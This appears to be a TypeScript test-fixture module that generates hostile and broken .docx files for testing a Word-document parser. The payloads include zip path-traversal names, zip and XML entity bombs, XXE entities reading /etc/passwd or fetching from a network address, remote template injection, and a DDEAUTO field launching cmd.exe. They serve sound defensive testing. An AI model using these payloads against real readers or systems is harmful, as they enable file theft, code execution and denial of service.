/** Hostile and broken .docx files: the zip, the XML in it, and what Word makes of the XML. */
import { strFromU8, strToU8, unzipSync, zipSync } from 'fflate';
import {
  exampleBytes,
  mapRows,
  paragraph,
  plainTable,
  variant,
} from '../../fixtures/docx-variant.ts';
import { files, flipped, type HostileFile, heavy, truncated } from './hostile-file.ts';
import { type RawEntry, type RawOptions, rawZip } from './raw-zip.ts';

const MAIN = 'word/document.xml';
const W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const MB = 1024 * 1024;

/** The example's parts; the document among them. */
function parts(): RawEntry[] {
  return Object.entries(unzipSync(exampleBytes())).map(([name, data]) => ({ name, data }));
}

/** The example in a zip of our own. @param change gets the entry of the document */
function zip(
  change: (main: RawEntry) => RawEntry | readonly RawEntry[] = (main) => main,
  options: RawOptions = {},
): Uint8Array {
  return rawZip(
    parts().flatMap((one) => (one.name === MAIN ? change(one) : [one])),
    options,
  );
}

/** A document of this XML in a zip of its own. */
function document(xml: string | Uint8Array): Uint8Array {
  return zipSync({ [MAIN]: typeof xml === 'string' ? strToU8(xml) : xml }, { level: 1 });
}

const inBody = (body: string) => document(`<w:document ${W}><w:body>${body}</w:body></w:document>`);
/** The example's XML changed; also where a pattern of a damage hits nothing. */
const changed = (change: (xml: string) => string) => variant((xml) => `${change(xml)} `);
const example = () => exampleBytes();
const exampleXml = () => strFromU8(unzipSync(exampleBytes())[MAIN] ?? new Uint8Array());
const inFirstCell = (xml: string) => changed((all) => all.replace('<w:tc>', `<w:tc>${xml}`));
const firstRows = (properties: string) =>
  changed((xml) =>
    mapRows(
      xml,
      (cells) => cells,
      () => properties,
    ),
  );
const everySpan = (span: string) =>
  changed((xml) => xml.replace(/<w:gridSpan w:val="\d+"\/>/g, `<w:gridSpan w:val="${span}"/>`));
const rels = (inner: string) =>
  variant((xml) => xml, {
    'word/_rels/document.xml.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
  });
const rootRels = (target: string) =>
  variant((xml) => xml, {
    '_rels/.rels': `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type="${RELS}/officeDocument" Target="${target}"/></Relationships>`,
  });
const outside = (kind: string, target: string) =>
  rels(`<Relationship Id="r9" Type="${RELS}/${kind}" Target="${target}" TargetMode="External"/>`);

const EVIL_NAMES = [
  '../../../evil.xml',
  '/etc/cron.d/evil',
  'C:\\Windows\\evil.dll',
  '\\\\server\\share\\evil',
  'word/../../evil',
  'CON',
  'aux.xml',
  'evil\u0000.xml',
  '',
  '\u202egpj.exe',
  '__proto__',
  'constructor',
  'word/__proto__.xml',
  'a'.repeat(60_000),
  `${'d/'.repeat(20_000)}x`,
];

const zips: HostileFile[] = [
  ...truncated('docx', example, 40, 'sentence'),
  ...flipped('docx', example, 60, 'example'),
  ...files(
    'docx zip with the name',
    'draft',
    Object.fromEntries(
      EVIL_NAMES.map((name) => [
        name.slice(0, 40),
        () => zip((main) => [{ name, data: strToU8('evil') }, main]),
      ]),
    ),
  ),
  ...files('docx zip', 'sentence', {
    'a password on the document': () => zip((main) => ({ ...main, flags: 0x801 })),
    AES: () => zip((main) => ({ ...main, flags: 0x801, method: 99 })),
    'wrong CRC': () => zip((main) => ({ ...main, crc: 1 })),
    'CRC 0': () => zip((main) => ({ ...main, crc: 0 })),
    'the document twice': () => zip((main) => [main, { ...main, data: strToU8('<a/>') }]),
    'three documents': () => zip((main) => [main, main, main]),
    'count 0': () => zip(undefined, { count: 0 }),
    'count 65535': () => zip(undefined, { count: 65535 }),
    'list outside the file': () => zip(undefined, { start: 0x7fffffff }),
    'list at its end record': () => zip(undefined, { start: 42_000 }),
    'list in the middle': () => zip(undefined, { start: 100 }),
    'junk before': () => zip(undefined, { before: new Uint8Array(999).fill(0x50) }),
    'method bzip2': () => zip((main) => ({ ...main, method: 12 })),
    'method lzma': () => zip((main) => ({ ...main, method: 14 })),
    'method unknown': () => zip((main) => ({ ...main, method: 0xffff })),
    'stored but said to be deflated': () => zip((main) => ({ ...main, packed: main.data })),
    'deflated but said to be stored': () =>
      zip((main) => ({ ...main, method: 0, packed: new Uint8Array(50) })),
    'size 0': () => zip((main) => ({ ...main, size: 0 })),
    'size 10': () => zip((main) => ({ ...main, size: 10 })),
    'size 4 GB': () => zip((main) => ({ ...main, size: 0xfffffffe })),
    'size of zip64 without it': () => zip((main) => ({ ...main, size: 0xffffffff })),
    'packed size 0': () => zip((main) => ({ ...main, packedSize: 0 })),
    'no document': () => zip(() => []),
    'empty document': () => zip((main) => ({ ...main, data: new Uint8Array() })),
    'only the signature': () => strToU8('PK\u0003\u0004'),
    'only an end record': () => rawZip([]),
    'a zip in a zip in a zip': () =>
      zipSync({ 'a.zip': zipSync({ 'b.zip': zipSync({ 'c.docx': exampleBytes() }) }) }),
    'a document in a folder': () => zipSync({ [`x/${MAIN}`]: strToU8(exampleXml()) }),
    '6,000 entries': () =>
      zip((main) => [
        main,
        ...Array.from({ length: 6000 }, (_, i) => ({ name: `x${i}`, data: new Uint8Array() })),
      ]),
    '70 MB of zeros': () => zipSync({ [MAIN]: [new Uint8Array(70 * MB), { level: 1 }] }),
    'a hundred parts that are one': () => overlapping(100, 2 * MB),
  }),
  ...files('docx zip', 'example', {
    'packed size 2 GB': () => zip((main) => ({ ...main, packedSize: 0x7fffffff })),
  }),
  ...files('docx zip', 'draft', {
    zip64: () => zip(undefined, { zip64: true }),
    'a comment with an end record in it': () =>
      zip(undefined, { comment: strToU8('no end record') }),
    'another name in the local header': () =>
      zip((main) => ({ ...main, localName: 'word/other.xml!!' })),
    stored: () => zip((main) => ({ ...main, method: 0 })),
    'a password on a picture only': () =>
      zip((main) => [main, { name: 'word/media/a.png', data: strToU8('x'), flags: 0x801 }]),
  }),
  ...heavy('docx zip', 'sentence', {
    'twenty parts of 60 MB': () => {
      const zeros = new Uint8Array(60 * MB).fill(32);
      return zipSync(
        Object.fromEntries(
          [MAIN, ...Array.from({ length: 20 }, (_, i) => `word/header${i}.xml`)].map((name) => [
            name,
            [zeros, { level: 1 }] as const,
          ]),
        ),
      );
    },
    'overlapping parts of 1 GB': () => overlapping(4000, 8 * MB),
    '60 MB of blanks as a document': () => document(new Uint8Array(60 * MB).fill(32)),
    '60 MB of < as a document': () => document(new Uint8Array(60 * MB).fill(0x3c)),
  }),
];

/** Parts that all point to the same packed bytes (a bomb of Fifield's kind). */
function overlapping(count: number, size: number): Uint8Array {
  const data = new Uint8Array(size);
  const first: RawEntry = { name: MAIN, data };
  const nothing = new Uint8Array();
  const others = Array.from({ length: count }, (_, i) => ({
    name: `word/footer${i}.xml`,
    data: nothing,
    size,
    at: 0,
    packedSize: 5000,
    packed: nothing,
  }));
  return rawZip([first, ...others]);
}

const laughs = (depth: number) =>
  `<!DOCTYPE d [<!ENTITY e0 "哈哈">${Array.from({ length: depth }, (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`).join('')}]><w:document ${W}><w:body><w:p><w:r><w:t>&e${depth};</w:t></w:r></w:p></w:body></w:document>`;
const doctype = (inner: string) =>
  changed((xml) => xml.replace('<w:document', `${inner}<w:document`));

const xmls: HostileFile[] = [
  ...files('docx XML', 'sentence', {
    'billion laughs': () => document(laughs(9)),
    'a thousand levels of entities': () => document(laughs(1000)),
    'external entity, a file': () =>
      doctype('<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
    'external entity, an address': () =>
      doctype('<!DOCTYPE d [<!ENTITY x SYSTEM "http://203.0.113.9/x">]>'),
    'parameter entity': () =>
      doctype('<!DOCTYPE d [<!ENTITY % p SYSTEM "http://203.0.113.9/x.dtd"> %p;]>'),
    'external document type': () => doctype('<!DOCTYPE d SYSTEM "http://203.0.113.9/x.dtd">'),
    'document type alone': () => doctype('<!DOCTYPE d>'),
    'unknown entity': () => inFirstCell('&nbsp;'),
    'character 0': () => inFirstCell('&#0;'),
    'character beyond Unicode': () => inFirstCell('&#x110000;'),
    'lone surrogate': () => inFirstCell('&#xD800;'),
    'control characters': () => inFirstCell('\u0001\u0002'),
    'NUL in the middle': () => inFirstCell('\u0000'),
    'not closed': () => changed((xml) => xml.replace('</w:document>', '')),
    'closed twice': () => changed((xml) => `${xml}</w:document>`),
    'two roots': () => changed((xml) => `${xml}<b/>`),
    'text behind the root': () => changed((xml) => `${xml}x`),
    'crossed tags': () => inFirstCell('<a><b></a></b>'),
    'the same attribute twice': () => document(`<w:document ${W}><w:p a="1" a="2" <</w:document>`),
    'nested 100,000 deep': () =>
      document(`<w:document ${W}>${'<w:tbl><w:tr><w:tc>'.repeat(35_000)}`),
    'another root': () => document('<html><body>x</body></html>'),
    'UTF-16 without a mark': () => document(new Uint8Array(Buffer.from(exampleXml(), 'utf16le'))),
    'only a byte order mark': () => document('\ufeff'),
    'odd bytes of UTF-16': () => document(new Uint8Array([0xff, 0xfe, 0x3c])),
    'HTML instead of XML': () => document('<!doctype html><table><tr><td>部门'),
    'binary instead of XML': () =>
      document(Uint8Array.from({ length: 5000 }, (_, i) => (i * 37) % 256)),
  }),
  ...files('docx XML', 'either', {
    'namespace of nobody': () =>
      document(
        exampleXml().replace(/schemas\.openxmlformats\.org\/wordprocessingml/g, 'example.com'),
      ),
    'bytes that are no UTF-8': () =>
      document(
        Buffer.concat([
          strToU8(exampleXml().slice(0, -900)),
          new Uint8Array([0xff, 0xc0, 0x80, 0xf5]),
          strToU8(exampleXml().slice(-900)),
        ]),
      ),
    'a tag of a million letters': () => inFirstCell(`<w:${'x'.repeat(1_000_000)}/>`),
    'an attribute of a million letters': () => inFirstCell(`<w:x a="${'y'.repeat(1_000_000)}"/>`),
    '100,000 attributes': () =>
      inFirstCell(`<w:x ${Array.from({ length: 100_000 }, (_, i) => `a${i}=""`).join(' ')}/>`),
    '100,000 namespaces': () =>
      inFirstCell(Array.from({ length: 20_000 }, (_, i) => `<a xmlns:n${i}="u${i}"/>`).join('')),
  }),
  ...files('docx XML', 'draft', {
    'UTF-16': () =>
      document(
        new Uint8Array(
          Buffer.from(
            `\ufeff${exampleXml().replace('encoding="UTF-8"', 'encoding="UTF-16"')}`,
            'utf16le',
          ),
        ),
      ),
    XInclude: () =>
      inFirstCell(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>',
      ),
    'stylesheet from the network': () =>
      doctype('<?xml-stylesheet href="http://203.0.113.9/x.xsl" type="text/xsl"?>'),
    'a comment of a million letters': () => inFirstCell(`<!--${'z'.repeat(1_000_000)}-->`),
    'markup as text': () =>
      inFirstCell(
        ''.concat('<w:p><w:r><w:t>&lt;script&gt;alert(1)&lt;/script&gt;</w:t></w:r></w:p>'),
      ),
    CDATA: () =>
      inFirstCell('<w:p><w:r><w:t><![CDATA[<img src=x onerror=alert(1)>]]></w:t></w:r></w:p>'),
    'prefixes of another program': () =>
      document(
        exampleXml()
          .replace(/(<\/?|\s)w:/g, '$1ns0:')
          .replace('xmlns:w=', 'xmlns:ns0='),
      ),
  }),
];

const DDE =
  '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>';
const contents: HostileFile[] = [
  ...files('docx with', 'draft', {
    macros: () =>
      variant((xml) => xml, {
        'word/vbaProject.bin': 'Attribute VB_Name',
        '[Content_Types].xml': '<Types/>',
      }),
    'a template from the network': () =>
      outside('attachedTemplate', 'http://203.0.113.9/evil.dotm'),
    'a template from a share': () =>
      outside('attachedTemplate', '\\\\203.0.113.9\\share\\evil.dotm'),
    'a picture from the network': () => outside('image', 'http://203.0.113.9/pixel.png'),
    'an OLE link to a file': () => outside('oleObject', 'file:///c:/windows/system32/calc.exe'),
    'a frame from the network': () => outside('frame', 'http://203.0.113.9/'),
    'a hyperlink of script': () => outside('hyperlink', 'javascript:alert(1)'),
    'a part outside the package': () =>
      rels(`<Relationship Id="r1" Type="${RELS}/header" Target="../../../../etc/passwd"/>`),
    'an OLE object': () =>
      variant((xml) => xml, { 'word/embeddings/oleObject1.bin': '\u00d0\u00cf\u0011\u00e0' }),
    'an altChunk': () =>
      variant((xml) => xml.replace('<w:sectPr', '<w:altChunk r:id="r9"/><w:sectPr'), {
        'word/afchunk.htm': '<script>alert(1)</script>',
      }),
    DDE: () => inFirstCell(DDE),
    INCLUDETEXT: () =>
      inFirstCell(DDE.replace(/DDEAUTO.*calc"/, 'INCLUDETEXT "file:///etc/passwd"')),
    INCLUDEPICTURE: () =>
      inFirstCell(DDE.replace(/DDEAUTO.*calc"/, 'INCLUDEPICTURE "http://203.0.113.9/x.png"')),
    'styles based on each other': () =>
      variant((xml) => xml, {
        'word/styles.xml': `<w:styles ${W}><w:style w:styleId="a"><w:basedOn w:val="b"/></w:style><w:style w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>`,
      }),
    'a footnote that refers to itself': () =>
      variant((xml) => xml, {
        'word/footnotes.xml': `<w:footnotes ${W}><w:footnote w:id="1"><w:p><w:r><w:footnoteReference w:id="1"/><w:t>注</w:t></w:r></w:p></w:footnote></w:footnotes>`,
      }),
    '20,000 comments': () =>
      variant((xml) => xml, {
        'word/comments.xml': `<w:comments ${W}>${paragraph('批注').repeat(20_000)}</w:comments>`,
      }),
    '50,000 bookmarks': () => inFirstCell('<w:bookmarkStart w:id="1" w:name="a"/>'.repeat(50_000)),
    '100,000 paragraphs outside': () =>
      changed((xml) => xml.replace('<w:tbl>', `${paragraph('外').repeat(100_000)}<w:tbl>`)),
    'a right-to-left mark in every text': () =>
      changed((xml) => xml.replace(/(<w:t[^>]*>)([^<]{1,4})(?=<)/g, '$1$2')),
  }),
  ...files('docx with', 'sentence', {
    'a broken header': () => variant((xml) => xml, { 'word/header1.xml': '<w:hdr><' }),
    'broken styles': () => variant((xml) => xml, { 'word/styles.xml': '<w:styles><' }),
    'broken relations': () => variant((xml) => xml, { '_rels/.rels': '<Relationships' }),
    'a document outside the package': () => rootRels('../../../etc/passwd'),
    'a document of the network': () => rootRels('http://203.0.113.9/document.xml'),
    'a document named like an object': () => rootRels('__proto__'),
    'a text of two million letters': () => inFirstCell(paragraph('长'.repeat(2_000_000))),
    'only a table of nothing': () => inBody('<w:tbl><w:tr><w:tc/></w:tr></w:tbl>'),
    'a row outside of tables': () => inBody('<w:tr><w:tc><w:p/></w:tc></w:tr>'),
    'cells outside of rows': () => inBody(`<w:tbl><w:tc>${paragraph('x')}</w:tc></w:tbl>`),
    '350 tables in each other': () =>
      inBody(`${'<w:tbl><w:tr><w:tc>'.repeat(120)}x${'</w:tc></w:tr></w:tbl>'.repeat(120)}`),
    '25,000 rows': () =>
      inBody(`<w:tbl>${`<w:tr><w:tc>${paragraph('x')}</w:tc></w:tr>`.repeat(25_000)}</w:tbl>`),
  }),
  ...files('docx with spans', 'either', {
    ...Object.fromEntries(
      ['999999999', '-5', '0', 'NaN', '1e308', '0x7fffffff', '', '1.5', '一'].map((span) => [
        span,
        () => everySpan(span),
      ]),
    ),
    'a million columns before each row': () =>
      firstRows('<w:trPr><w:gridBefore w:val="1000000"/></w:trPr>'),
    'minus columns before each row': () => firstRows('<w:trPr><w:gridBefore w:val="-9"/></w:trPr>'),
    'every cell continues the one above': () =>
      changed((xml) => xml.replace(/<w:tcPr>/g, '<w:tcPr><w:vMerge/>')),
    'every cell begins a merge': () =>
      changed((xml) => xml.replace(/<w:tcPr>/g, '<w:tcPr><w:vMerge w:val="restart"/>')),
    'every cell continues the one to its left': () =>
      changed((xml) => xml.replace(/<w:tcPr>/g, '<w:tcPr><w:hMerge/>')),
    'a grid of 100,000 columns': () =>
      changed((xml) =>
        xml.replace('<w:tblGrid>', `<w:tblGrid>${'<w:gridCol w:w="1"/>'.repeat(100_000)}`),
      ),
    'columns of negative width': () =>
      changed((xml) => xml.replace(/<w:gridCol w:w="/g, '<w:gridCol w:w="-')),
    'rows of 3,000 cells': () =>
      inBody(plainTable(Array.from({ length: 20 }, () => Array.from({ length: 3000 }, () => 'x')))),
    '300 copies of the form': () =>
      changed((xml) => {
        const table = /<w:tbl>.*<\/w:tbl>/s.exec(xml)?.[0] ?? '';
        return xml.replace('<w:sectPr', () => `${table.repeat(20)}<w:sectPr`);
      }),
  }),
  ...heavy('docx with', 'either', {
    'a million cells': () =>
      inBody(`<w:tbl>${`<w:tr>${'<w:tc><w:p/></w:tc>'.repeat(50)}</w:tr>`.repeat(20_000)}</w:tbl>`),
    'a million merged cells': () =>
      inBody(
        `<w:tbl>${`<w:tr>${`<w:tc><w:tcPr><w:vMerge/></w:tcPr>${paragraph('一级指标')}</w:tc>`.repeat(50)}</w:tr>`.repeat(8_000)}</w:tbl>`,
      ),
    '15,000 indicators': () =>
      changed((xml) => {
        const row = /<w:tr>(?:(?!<\/w:tr>).)*满意度.*?<\/w:tr>/s.exec(xml)?.[0] ?? '';
        return xml.replace(row, () => row.repeat(15_000));
      }),
    '30 MB of text in one run': () => inBody(paragraph('长'.repeat(10_000_000))),
    'ten million line breaks': () => inBody(`<w:p><w:r>${'<w:br/>'.repeat(4_000_000)}</w:r></w:p>`),
    '2,000 copies of the form': () =>
      changed((xml) => {
        const table = /<w:tbl>.*<\/w:tbl>/s.exec(xml)?.[0] ?? '';
        return xml.replace('<w:sectPr', () => `${table.repeat(300)}<w:sectPr`);
      }),
  }),
];

export const wordFiles: readonly HostileFile[] = [...zips, ...xmls, ...contents];
